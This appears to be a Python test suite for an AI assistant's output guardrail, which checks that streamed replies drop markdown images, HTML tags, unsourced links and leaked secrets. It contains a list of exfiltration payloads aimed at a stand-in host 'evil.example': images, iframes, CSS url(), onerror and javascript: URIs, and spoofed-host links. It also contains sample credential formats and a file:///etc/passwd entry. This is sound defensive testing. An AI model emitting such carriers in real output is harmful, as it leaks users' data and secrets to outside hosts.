"""Output: nothing loads by itself, no link but those of the sources, no secret, wherever the slices are cut."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from assistant.guardrails.output import LEFT_OUT, Output

SOURCE = "See https://wiki.example.com/leave?x=1 and write to mailto:hr@example.com."
EVIL = "http://evil.example/c.png?d=secret"
CARRIERS = [
    f"![a]({EVIL})",
    f"![a](<{EVIL}>)",
    f"![a]({EVIL} 'title')",
    f"![a][1]\n\n[1]: {EVIL}",
    f"![a][]\n\n[a]: {EVIL}",
    f"![1]\n\n[1]: {EVIL}",
    f"[![a]({EVIL})]({EVIL})",
    f"[text]({EVIL})",
    f"[text][ref]\n\n[ref]: {EVIL}",
    f"[^1]\n\n[^1]: ![x]({EVIL})",
    f"<{EVIL}>",
    EVIL,
    f"<img src={EVIL}>",
    f'<img src="{EVIL}" onerror=alert(1)>',
    f"<svg><use href='{EVIL}'/></svg>",
    f"<video poster={EVIL}></video>",
    f"<link rel=preload href={EVIL}>",
    f"<style>body{{background:url({EVIL})}}</style>",
    f"<iframe src={EVIL}>",
    f"<!-- {EVIL} -->",
    f"```mermaid\ngraph TD; A[<img src='{EVIL}'>]\n```",
    f"$\\href{{{EVIL}}}{{x}}$",
    f"$\\includegraphics{{{EVIL}}}$",
    f"| a |\n|---|\n| ![a]({EVIL}) |",
    f"> ![a]({EVIL})",
    f"# ![a]({EVIL})",
    f"- ![a]({EVIL})",
    f"\\`<img src={EVIL}>`",
    f"``` not a fence ![a]({EVIL})",
    f"~~~\n![a]({EVIL})\n~~~",
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,AAAA)",
    "[x](//evil.example/a)",
    "[x](http://wiki.example.com@evil.example/leave)",
    "[x](https://wiki.example.com/leave?x=1&d=secret)",
    "www.evil.example/secret",
]


def loads(markdown: str) -> list[str]:
    """Return what a markdown renderer could load, link or run outside of code."""
    text = re.sub(r"(?ms)^```[\w+-]*[ \t]*$.*?^ {0,3}```[ \t]*$", "", markdown)
    text = re.sub(r"(?<![`\\])(`+)(?!`)[^\n]+?(?<!`)\1(?!`)", "", text)
    return re.findall(
        r"!\[|\]\(|\]\[(?!\d\])|\]:|<[A-Za-z/!?]|(?:https?|data|javascript):[^\s]*|www\.\S+|\\href|\\includegraphics",
        text,
    )


@pytest.mark.parametrize("carrier", CARRIERS)
@pytest.mark.parametrize("size", [10_000, 7, 1])
def test_it_leaves_nothing_that_loads(carrier: str, size: int) -> None:
    output = Output([SOURCE])
    text = f"Before.\n{carrier}\nAfter."
    shown = "".join(output.slice(part) for part in _slices(text, size))
    assert loads(shown) == []
    assert "```mermaid" not in shown


def _slices(text: str, size: int) -> list[str]:
    """Cut where releases cut: at blanks, so that no word is torn."""
    words = re.findall(r"\S*\s*", text)
    return ["".join(words[i : i + size]) for i in range(0, len(words), size)]


def test_it_keeps_links_that_a_source_gave_and_shows_their_host() -> None:
    output = Output([SOURCE])
    assert output.slice("[Leave](https://wiki.example.com/leave?x=1)") == (
        "[Leave (wiki.example.com)](https://wiki.example.com/leave?x=1)"
    )
    assert output.slice(" https://wiki.example.com/leave?x=1.") == " https://wiki.example.com/leave?x=1."
    assert LEFT_OUT in output.slice(" https://wiki.example.com/leave")


def test_it_leaves_code_alone() -> None:
    code = "Use `<b>` and:\n```html\n<b>![x](y)</b>\n```\n"
    assert Output([]).slice(code) == code


def test_it_does_not_trust_code_whose_beginning_lies_in_an_earlier_slice() -> None:
    output = Output([])
    shown = output.slice("a ` b\n") + output.slice("c `<img src=x>` d")
    assert "<img" not in shown
    assert "<b>" in output.slice("\n\nUse `<b>`.")


def test_it_does_not_trust_a_fence_that_a_renderer_closes_earlier() -> None:
    shown = Output([]).slice("```\ncode\n   ````\n<img src=x>\n```\n")
    assert "<img" not in shown


def test_it_keeps_citation_marks_and_plain_brackets() -> None:
    assert Output([]).slice("France [1]. A [b] c < d, 1 < 2.") == "France [1]. A [b] c < d, 1 < 2."


@pytest.mark.parametrize(
    "secret",
    [
        "AKIAIOSFODNN7EXAMPLE",
        "ghp_" + "a1" * 18,
        "sk-" + "x" * 40,
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0abc.SflKxwRJSMeKKF2QT4fw",
        "our-own-engine-key",
    ],
)
def test_it_never_lets_a_secret_out(secret: str) -> None:
    shown = Output([secret], secrets=["our-own-engine-key"]).slice(f"The key is {secret} indeed.")
    assert secret not in shown
    assert "indeed" in shown


@pytest.mark.parametrize(
    "word",
    [
        *("https://e.example/x", "HTTP://e.example", "ftp://e.example", "file:///etc/passwd", "data:text/html,x"),
        *("javascript:alert(1)", "VBScript:x", "mailto:a@e.example", "www.e.example", "httpſ://e.example"),
        *(
            "AKIAIOSFODNN7EXAMPLE",
            "ASIAIOSFODNN7EXAMPLE",
            "ghp_" + "a1" * 18,
            "github_pat_" + "a" * 40,
            "glpat-" + "a" * 20,
        ),
        *(
            "xoxb-" + "a" * 20,
            "sk-" + "x" * 40,
            "AIza" + "a" * 35,
            "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0abc.SflKxwRJSMeK",
        ),
        *("ourownenginekey", "our-own-engine-key", "xourownenginekey", "yyourownenginekeyz", "Zour-own-engine-key"),
        *("![a](http://e)", "<img src=x>", "[a](http://e)", "Élan", "3rd", ""),
    ],
)
def test_no_beginning_of_a_link_or_a_secret_is_plain(word: str) -> None:
    output = Output([], secrets=["our-own-engine-key", "ourownenginekey"])
    for size in range(len(word) + 1):
        shown = output.is_plain(word[:size])
        # Letters in front of a secret of our own may show; of itself, nothing.
        assert not shown or (word[0] in "xyZ" and "our" not in word[:size] and not word[:size].endswith(("o", "ou")))


def test_ordinary_words_are_plain() -> None:
    output = Output([], secrets=["quite-our-own-engine-key"])
    words = ["The", "You", "Tell", "Leave", "Employees", "Yes", "No", "Sure", "Number", "Der", "Risk", "Metadata"]
    assert all(output.is_plain(word) for word in words)


def test_it_leaves_out_a_private_key_over_many_slices() -> None:
    output = Output([])
    lines = ["-----BEGIN RSA PRIVATE KEY-----\n", "MIIEpAIBAAKCAQEA\n", "abc\n-----END RSA PRIVATE KEY-----\nDone."]
    shown = "".join(output.slice(line) for line in lines)
    assert "MII" not in shown
    assert "abc" not in shown
    assert shown.endswith("Done.")


def test_it_changes_nothing_but_secrets_in_data_for_programs() -> None:
    text = '{"a": "![x](http://e)", "k": "AKIAIOSFODNN7EXAMPLE"}'
    shown = Output([], markdown=False).slice(text)
    assert "![x](http://e)" in shown
    assert "AKIA" not in shown


def _outside_of_code(shown: str) -> list[str]:
    """Return what a CommonMark reader would load or link to in a text."""
    tokens = [inner for token in MarkdownIt("commonmark").parse(shown) for inner in [token, *(token.children or ())]]
    return [one.type for one in tokens if one.type in ("image", "link_open", "html_block", "html_inline")]


_LINES = [
    "```",
    "````",
    "``````",
    "~~~",
    "```python",
    "```python title=x",
    "``` `a`",
    "~~~ x",
    "``",
    "- one",
    "> quoted",
]
_LINES += [f"{blanks}```" for blanks in (" ", "   ", "    ", "\t", "- ", "1. ", "> ", "  - ", "- > ")]
_LINES += ["![a](http://e.x/a)", "  ![a](http://e.x/a)", "<img src=//e.x>", "[a](http://e.x/a)", "", "text", "    code"]


@settings(max_examples=1_000)
@given(st.lists(st.sampled_from(_LINES), max_size=12), st.integers(1, 9), st.booleans())
def test_it_lets_nothing_out_however_blocks_of_code_are_fenced(lines: list[str], size: int, whole: bool) -> None:
    output, text = Output([]), "\n".join(lines)
    shown = output.slice(text) if whole else "".join(output.slice(part) for part in _slices(text, size))
    assert _outside_of_code(shown) == []


@pytest.mark.parametrize("opens", ["```python title=x", "````", "  ```", "\t```py", "```a-b c"])
@pytest.mark.parametrize("size", [10_000, 7, 1])
def test_a_block_of_code_stays_as_it_is_and_ends_where_it_ends(opens: str, size: int) -> None:
    closes = "`" * opens.count("`")
    text = f"Do this:\n{opens}\nif a < b: # ![x]\n{closes}\n![a](http://e.x/a)"
    output = Output([])
    shown = "".join(output.slice(part) for part in _slices(text, size))
    blocks = [token.content for token in MarkdownIt("commonmark").parse(shown) if token.type == "fence"]
    assert blocks == ["if a < b: # ![x]\n"], shown
    assert "(a: image left out)" in shown


@given(
    st.lists(
        st.sampled_from(["![", "](", "http://e.x/a", "]:", "[a]", "<img", "`", "\n", " ", "!", "]", "(", "<", "b>"])
    )
)
def test_it_lets_no_markup_arise_across_slices(parts: list[str]) -> None:
    output = Output([])
    shown = "".join(output.slice(part) for part in parts if part)
    outside = re.sub(r"(?<![`\\])(`+)(?!`)[^\n]+?(?<!`)\1(?!`)", " code ", shown)
    assert "![" not in outside
    assert "](" not in outside
